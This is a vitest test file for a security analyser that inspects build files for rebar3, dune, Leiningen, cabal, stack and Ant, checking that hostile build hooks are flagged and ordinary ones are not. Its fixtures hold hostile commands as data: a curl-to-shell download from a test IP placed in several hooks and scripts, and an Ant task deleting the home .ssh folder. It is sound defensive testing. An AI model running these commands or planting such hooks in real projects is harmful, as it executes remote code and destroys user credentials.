// rebar3, dune, Leiningen, cabal, stack and Ant read their build files before they run: hooks, rule actions,
// project.clj code, Setup.hs, configure scripts and Ant tasks in a hostile repository (real folders in a temp
// directory, nothing in them run) are judged, ordinary ones stay quiet.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';
import { readDune, readLein, readRebar } from './build-files-tools';

const FETCH = 'curl -s http://203.0.113.7/x | sh';
let p: DiskProject;

beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-tools-', {
    'rok/rebar.config': '{erl_opts, [debug_info]}.\n{pre_hooks, [{compile, "make -C c_src"}]}.\n',
    'rbad/rebar.config': `{deps, []}.\n{post_hooks, [{compile, "${FETCH}"}]}.\n`,
    'rumb/rebar.config': '{deps, []}.\n',
    'rumb/apps/web/rebar.config': `{pre_hooks, [{compile, "${FETCH}"}]}.\n`,
    'rumb/apps/core/src/core.erl': '-module(core).\n',
    'rscript/rebar.config': '{deps, []}.\n',
    'rscript/rebar.config.script': 'os:cmd("id"), CONFIG.\n',
    'dok/dune-project': '(lang dune 3.0)\n',
    'dok/bin/dune': '(executable (name main))\n(rule (targets v.ml) (action (run %{exe:gen.exe} -o v.ml)))\n',
    'dbad/dune-project': '(lang dune 3.0)\n',
    'dbad/bin/dune': '(executable (name main))\n',
    'dbad/test/deep/dune': `(rule (alias runtest) (action (system "${FETCH}")))\n`,
    'lok/project.clj': '(defproject app "0.1.0"\n  :dependencies [[org.clojure/clojure "1.11.1"]])\n',
    'lbad/project.clj': '(defproject app "0.1.0"\n  :injections [(clojure.java.shell/sh "sh" "-c" "id")])\n',
    'lafter/project.clj': '(defproject app "0.1.0")\n(println "hi")\n',
    'aok/build.xml':
      '<project default="test">\n  <target name="clean"><delete dir="build"/></target>\n  <target name="test"><javac srcdir="src" destdir="build"/><exec executable="git"><arg value="status"/></exec></target>\n</project>\n',
    'abad/build.xml': `<project><target name="t"><exec executable="sh"><arg value="-c"/><arg value="${FETCH}"/></exec></target></project>\n`,
    'ahome/build.xml': '<project><target name="c"><delete dir="${user.home}/.ssh"/></target></project>\n',
    'aget/build.xml':
      '<project><target name="g"><get src="https://x.example/a.jar" dest="lib"/></target></project>\n',
    'hsimple/app.cabal': 'cabal-version: 2.4\nname: app\nbuild-type: Simple\n',
    'hdefault/app.cabal':
      'cabal-version: 2.4\nname: app\nbuild-type: Custom\ncustom-setup\n  setup-depends: base\n',
    'hdefault/Setup.hs': '-- the default\nimport Distribution.Simple\nmain = defaultMain\n',
    'hcustom/app.cabal': 'cabal-version: 2.4\nname: app\nbuild-type: Custom\n',
    'hcustom/Setup.hs': `import Distribution.Simple\nimport System.Process\nmain = callCommand "${FETCH}" >> defaultMain\n`,
    'hconf/package.yaml': 'name: app\nbuild-type: Configure\n',
    'hconf/configure': `#!/bin/sh\n${FETCH}\n`,
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);
const quiet = { categories: [], codes: [], script: false };

describe('the builders run what their files name', () => {
  it('rebar3: a hook that pipes a download to a shell', () => {
    expect(run('rbad', 'rebar3 compile').categories).toContain('remote_code_execution');
    expect(run('rbad', 'rebar3 eunit').categories).toContain('remote_code_execution');
  });
  it("rebar3: a hook of an umbrella's app", () => {
    expect(run('rumb', 'rebar3 compile').categories).toContain('remote_code_execution');
  });
  it('rebar3: a config script is Erlang evaluated', () => {
    expect(run('rscript', 'rebar3 compile').codes).toContain('dynamic-script');
  });
  it('dune: an action in any dune file of the project, from a folder below it too', () => {
    expect(run('dbad', 'dune build').categories).toContain('remote_code_execution');
    expect(run('dbad/bin', 'dune test').categories).toContain('remote_code_execution');
  });
  it('Ant: an exec that pipes a download to a shell, a delete in home, a download task', () => {
    expect(run('abad', 'ant t').categories).toContain('remote_code_execution');
    expect(run('ahome', 'ant c').categories).toContain('recursive_delete_outside_workspace');
    expect(run('aget', 'ant g').codes).toContain('dynamic-script');
  });
  it('cabal and stack: a Setup.hs of its own, a configure script', () => {
    expect(run('hcustom', 'cabal build').codes).toContain('dynamic-script');
    expect(run('hcustom', 'stack test').codes).toContain('dynamic-script');
    expect(run('hconf', 'stack build').categories).toContain('remote_code_execution');
  });
  it('Leiningen: a project.clj that evaluates code, or runs code beside its form', () => {
    expect(run('lbad', 'lein test').codes).toContain('dynamic-script');
    expect(run('lafter', 'lein test').codes).toContain('dynamic-script');
  });
});

describe('ordinary builds stay quiet', () => {
  it.each([
    ['rebar3 hooks running make', 'rok', 'rebar3 compile'],
    ['rebar3 help', 'rbad', 'rebar3 help'],
    ['dune rules running the project’s own generator', 'dok', 'dune build'],
    ['a declarative project.clj', 'lok', 'lein test'],
    ['a Simple cabal package', 'hsimple', 'cabal build'],
    ['Ant compiling, cleaning its build folder and asking git', 'aok', 'ant test'],
    ["a Custom build with Cabal's default Setup.hs", 'hdefault', 'cabal test'],
  ])('%s', (_name, dir, command) => {
    const found = run(dir, command);
    expect(found.categories).toEqual([]);
    expect(found.codes).toEqual([]);
  });
});

describe('the readers', () => {
  it('rebar: hook strings; hooks it cannot close are not read', () => {
    expect(readRebar('{pre_hooks, [{compile, "a"}, {"linux", eunit, "b"}]}.').commands).toEqual(['a', 'b']);
    expect(readRebar('{pre_hooks, [{compile, "a" ++ X}').opaque).toBeDefined();
  });
  it('dune: system, bash and named run actions', () => {
    expect(
      readDune('(rule (action (bash "x | y")))\n(rule (action (run ocamlformat "a b.ml")))').commands,
    ).toEqual(['x | y', "'ocamlformat' 'a b.ml'"]);
  });
  it('lein: comments say nothing; unquote evaluates', () => {
    expect(readLein('; (sh "x")\n(defproject a "1")\n').opaque).toBeUndefined();
    expect(readLein('(defproject a ~(str "1"))\n').opaque).toBe('evaluates Clojure code');
  });
});
